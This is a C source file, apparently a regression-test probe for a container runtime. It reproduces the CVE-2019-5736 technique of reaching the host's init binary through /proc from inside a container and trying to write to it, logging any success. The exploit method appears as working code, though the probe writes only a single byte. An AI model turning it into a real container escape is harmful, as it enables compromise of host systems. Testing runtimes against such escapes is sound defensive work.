/* CVE-2019-5736's exploit, reduced to what the test needs: run inside a container, it watches /proc
 * for a process whose exe is gomini (an exec-init), holds that exe open read-only, and then keeps
 * trying to reopen it for writing through /proc/self/fd/N (as the exploit does once runc has
 * exited) and to open /proc/<pid>/exe for writing directly. Every catch goes to /tried, every
 * successful write to /wrote (with what the fd names). Stops when /stop exists. Built static by the test (gcc -static). */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void note(const char *file, const char *line) {
    FILE *f = fopen(file, "a");
    if (f) { fprintf(f, "%s\n", line); fclose(f); }
}

static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }

int main(void) {
    int held[256], caught[256]; double since[256]; int count = 0; char path[64], target[256], line[512];
    while (access("/stop", F_OK) != 0) {
        DIR *proc = opendir("/proc");
        struct dirent *e;
        while (proc && (e = readdir(proc))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == getpid()) continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t n = readlink(path, target, sizeof target - 1);
            if (n <= 0) continue;
            target[n] = 0;
            if (!strstr(target, "gomini")) continue;
            int seen = 0;
            for (int i = 0; i < count; i++) seen |= caught[i] == pid;
            if (seen) continue;
            int direct = open(path, O_WRONLY | O_APPEND);
            if (direct >= 0 && write(direct, "x", 1) == 1) { snprintf(line, sizeof line, "direct %d %s", pid, target); note("/wrote", line); }
            if (direct >= 0) close(direct);
            int fd = open(path, O_RDONLY);
            if (fd < 0 || count >= 256) continue;
            /* readlink and open race with the exec-init's execve: an fd opened just after it is the
             * container's own program (busybox), which the container may write anyway. Only an fd
             * that still names gomini is an attack on gomini. */
            char held_path[64], now_target[256];
            snprintf(held_path, sizeof held_path, "/proc/self/fd/%d", fd);
            ssize_t m = readlink(held_path, now_target, sizeof now_target - 1);
            now_target[m > 0 ? m : 0] = 0;
            if (!strstr(now_target, "gomini")) {
                snprintf(line, sizeof line, "%d %s then %s", pid, target, now_target); note("/raced", line);
                close(fd); caught[count] = pid; held[count] = -1; since[count] = now(); count++;
                continue;
            }
            held[count] = fd; caught[count] = pid; since[count] = now(); count++;
            snprintf(line, sizeof line, "%s", target);
            note("/tried", line);
        }
        if (proc) closedir(proc);
        for (int i = 0; i < count; i++) {
            if (held[i] < 0) continue;
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
            int w = open(path, O_WRONLY | O_APPEND);
            if (w >= 0 && write(w, "x", 1) == 1) {
                char what[256]; ssize_t k = readlink(path, what, sizeof what - 1); what[k > 0 ? k : 0] = 0;
                snprintf(line, sizeof line, "held fd %s -> %s", path, what); note("/wrote", line);
            }
            if (w >= 0) close(w);
            if (now() - since[i] > 3) { close(held[i]); held[i] = -1; }
        }
    }
    return 0;
}
